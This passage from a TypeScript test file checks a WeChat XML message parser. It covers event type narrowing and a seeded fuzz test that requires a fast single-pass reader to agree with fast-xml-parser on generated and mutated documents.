      ...EVENTS.map(() => true),
    ]);
  });

  it('does not call a message with MsgType=event but no Event an event', () => {
    const message = { ...base('event') } as WechatMessageBase;
    expect(isEvent(message)).toBe(false);
    expect(messageKind(message)).toEqual({ type: 'message', msgType: 'event' });
  });

  it('narrows the union through MsgType and Event', () => {
    const describe = (m: WechatMessage): string => {
      if (m.MsgType === 'text') return `text:${m.Content}`;
      if (m.MsgType === 'event' && (m.Event === 'pic_weixin' || m.Event === 'pic_sysphoto')) {
        return `pics:${m.SendPicsInfo.PicList.item.map((item) => item.PicMd5Sum).join(',')}`;
      }
      return m.MsgType;
    };
    expect(describe(all[0] as WechatMessage)).toBe('text:this is a test');
    const pics = parseWechatXml(EVENTS.find((f) => f.name === 'pic_weixin')!.xml) as unknown as PicEvent;
    expect(describe(pics)).toBe('pics:5a75aaca956d97be686719218f275c6b');
    const popup = parseWechatXml(
      EVENTS.find((f) => f.name === 'subscribe_msg_popup_event')!.xml,
    ) as unknown as SubscribeMsgPopupEvent;
    expect(popup.SubscribeMsgPopupEvent.List.map((entry) => entry.SubscribeStatusString)).toEqual([
      'reject',
      'accept',
    ]);
    const mass = parseWechatXml(
      EVENTS.find((f) => f.name === 'MASSSENDJOBFINISH')!.xml,
    ) as unknown as MassSendJobFinishEvent;
    expect(mass.SentCount).toBe('0');
  });

  it('asArray gives [] for nothing, [v] for one value and the array itself for repeats', () => {
    const repeated = [{ a: '1' }, { a: '2' }];
    expect(asArray(undefined)).toEqual([]);
    expect(asArray({ a: '1' })).toEqual([{ a: '1' }]);
    expect(asArray(repeated)).toBe(repeated);
    expect(asArray('')).toEqual(['']);
  });
});

/*
 * parseWechatXml reads the documents WeChat sends in one pass and leaves everything else to fast-xml-parser
 * (validate + parse). The single-pass reader must never accept what the parser refuses, and must return exactly what
 * the parser returns; it is held to that on every fixture and on tens of thousands of generated and mutated bodies.
 */
describe('the single-pass reader agrees with the validating parser', () => {
  function outcome(xml: string): { value?: unknown; error?: string } {
    try {
      return { value: parseGeneralXml(xml) };
    } catch (error) {
      return { error: (error as Error).name };
    }
  }

  function expectAgreement(xml: string): boolean {
    const fast = readPlainWechatXml(xml);
    if (fast === undefined) return false;
    const slow = outcome(xml);
    if (slow.error !== undefined || JSON.stringify(fast) !== JSON.stringify(slow.value)) {
      // one readable failure instead of thousands of expect calls
      expect({ xml, fast }).toStrictEqual({ xml, fast: slow.value ?? slow.error });
    }
    expect(fast).toStrictEqual(slow.value);
    return true;
  }

  it.each([...MESSAGES, ...EVENTS].map((f) => [f.name, f] as const))(
    'reads %s in one pass, with the same result',
    (_name, fixture) => {
      expect(expectAgreement(fixture.xml)).toBe(true);
    },
  );

  /** mulberry32: a seeded generator, so a failure can be replayed. */
  function random(seed: number): () => number {
    let state = seed;
    return () => {
      state = (state + 0x6d2b79f5) | 0;
      let t = Math.imul(state ^ (state >>> 15), 1 | state);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
    };
  }

  const NAMES = [
    'Content',
    'item',
    'List',
    'SubscribeMsgPopupEvent',
    'PicList',
    'A',
    'xml',
    'a.b',
    'x-y',
    '_u',
    'constructor',
    '__proto__',
    'a:b',
    '1a',
    'B',
  ];
  const TEXT = [
    'a',
    ' ',
    '\n',
    '\t',
    '&',
    '&amp;',
    '<',
    '>',
    ']',
    ']]>',
    '中文',
    '😀',
    '"',
    "'",
    '=',
    '/',
    '\r',
    '\u00a0',
    '\ufeff',
    '0',
  ];
  const SIGNIFICANT = [
    '<',
    '>',
    '/',
    '!',
    '[',
    ']',
    '&',
    ' ',
    '\n',
    '?',
    '-',
    'x',
    'CDATA',
    '<![CDATA[',
    ']]>',
    '</',
    '/>',
    '="v"',
  ];

  function pick<T>(next: () => number, list: readonly T[]): T {
    return list[Math.floor(next() * list.length)]!;
  }

  function text(next: () => number): string {
    let out = '';
    for (let i = Math.floor(next() * 5); i > 0; i--) out += pick(next, TEXT);
    return out;
  }

  function element(next: () => number, depth: number): string {
    const name = pick(next, NAMES);
    const space = next() < 0.3 ? pick(next, [' ', '\n  ', '\t']) : '';
    const roll = next();
    if (roll < 0.1) return `${space}<${name}/>`;
    let body: string;
    if (roll < 0.35) body = text(next);
    else if (roll < 0.6) {
      body = `<![CDATA[${text(next)}]]>`;
      if (next() < 0.2) body += `<![CDATA[${text(next)}]]>`;
      if (next() < 0.2) body = ` ${body}\n`;
    } else if (depth < 4) {
      body = '';
      for (let i = 1 + Math.floor(next() * 4); i > 0; i--) body += element(next, depth + 1);
      if (next() < 0.2) body += space;
    } else body = '';
    return `${space}<${name}>${body}</${name}>`;
  }

  function document(next: () => number): string {
    let children = '';
    for (let i = Math.floor(next() * 7); i > 0; i--) children += element(next, 1);
    const lead = next() < 0.1 ? pick(next, [' ', '\n', '<?xml version="1.0"?>', '\ufeff']) : '';
    return `${lead}<xml>${children}</xml>${next() < 0.1 ? '\n' : ''}`;
  }

  function mutate(next: () => number, xml: string): string {
    const at = Math.floor(next() * (xml.length + 1));
    const roll = next();
    if (roll < 0.33) return xml.slice(0, at) + pick(next, SIGNIFICANT) + xml.slice(at);
    if (roll < 0.66) return xml.slice(0, at) + xml.slice(at + 1 + Math.floor(next() * 3));
    return xml.slice(0, at) + pick(next, SIGNIFICANT) + xml.slice(at + 1);
  }

  it('agrees on 10,000 generated documents and reads most of them in one pass', () => {
    const next = random(20261121);
    let fast = 0;
    for (let i = 0; i < 10_000; i++) if (expectAgreement(document(next))) fast++;
    // the generator mixes in odd names, entities and declarations; most documents are still plain
    expect(fast).toBeGreaterThan(2_000);
  });

  it('agrees on 20,000 mutated real-shaped pushes (never accepts a body the parser refuses)', () => {
    const next = random(4711);
    const seeds = [...MESSAGES, ...EVENTS].map((f) => `<xml>${f.xml.replace(/^<xml>|<\/xml>$/g, '')}</xml>`);
    let fast = 0;
    let refusedBySlow = 0;
    for (let i = 0; i < 20_000; i++) {
      let xml = pick(next, seeds);
      for (let m = 1 + Math.floor(next() * 3); m > 0; m--) xml = mutate(next, xml);
      if (expectAgreement(xml)) fast++;
      else if (outcome(xml).error !== undefined) refusedBySlow++;
    }
    expect(fast).toBeGreaterThan(2_000);
    expect(refusedBySlow).toBeGreaterThan(2_000);
  });
});
